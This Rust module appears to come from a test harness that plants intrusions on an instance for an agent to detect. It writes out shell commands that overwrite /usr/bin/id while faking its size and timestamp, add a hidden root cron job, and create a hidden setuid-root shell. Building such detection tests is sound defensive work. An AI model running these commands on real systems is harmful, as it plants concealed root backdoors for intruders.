//! Receives a running instance; hands on the same, intruded upon, and says what the agent has to find.
//!
//! Each does on the instance, with its own tools, what intruders do: a program that is not what it was, a job that
//! brings them back, a shell that makes anyone root.

use anyhow::Result;

use crate::instance::Instance;

/// What was planted.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Intrusion {
    /// Another content for a program everybody runs, of the same size and with its time put back.
    ChangedProgram,
    /// A job that fetches the intruder's next order.
    CronJob,
    /// A copy of the shell that runs as root for whoever calls it.
    SetuidShell,
}

impl Intrusion {
    /// All of them.
    pub const ALL: [Intrusion; 3] = [
        Intrusion::ChangedProgram,
        Intrusion::CronJob,
        Intrusion::SetuidShell,
    ];

    /// The path that drifts.
    pub fn path(self) -> &'static str {
        match self {
            Intrusion::ChangedProgram => "/usr/bin/id",
            Intrusion::CronJob => "/etc/cron.d/.sysstat",
            Intrusion::SetuidShell => "/usr/lib/.helper",
        }
    }

    /// How the drift of that path is called.
    pub fn kind(self) -> &'static str {
        match self {
            Intrusion::ChangedProgram => "changed",
            Intrusion::CronJob | Intrusion::SetuidShell => "added",
        }
    }

    /// What it is, for people.
    pub fn description(self) -> &'static str {
        match self {
            Intrusion::ChangedProgram => {
                "a changed program, of the same size and with its time put back"
            }
            Intrusion::CronJob => "a cron job",
            Intrusion::SetuidShell => "a setuid shell",
        }
    }

    /// Plants it.
    ///
    /// # Errors
    /// The instance does not run.
    pub fn plant(self, instance: &Instance) -> Result<()> {
        instance.exec(&self.line()).map(drop)
    }

    /// Plants all of them in one go, as a script does: nobody looks in between.
    ///
    /// # Errors
    /// The instance does not run.
    pub fn plant_all(instance: &Instance) -> Result<()> {
        instance
            .exec(&Self::ALL.map(Self::line).join("; "))
            .map(drop)
    }

    fn line(self) -> String {
        let path = self.path();
        match self {
            Intrusion::ChangedProgram => format!(
                "touch -r {path} /run/.time; \
                 printf '#!/bin/sh\\necho \"uid=0(root) gid=0(root)\"; exit\\n' | dd of={path} conv=notrunc status=none; \
                 touch -r /run/.time {path}; rm /run/.time"
            ),
            Intrusion::CronJob => {
                format!(
                    "mkdir -p /etc/cron.d; echo '*/5 * * * * root /usr/lib/.helper -pc \"id\"' > {path}"
                )
            }
            Intrusion::SetuidShell => format!("cp /bin/sh {path}; chmod 4755 {path}"),
        }
    }
}
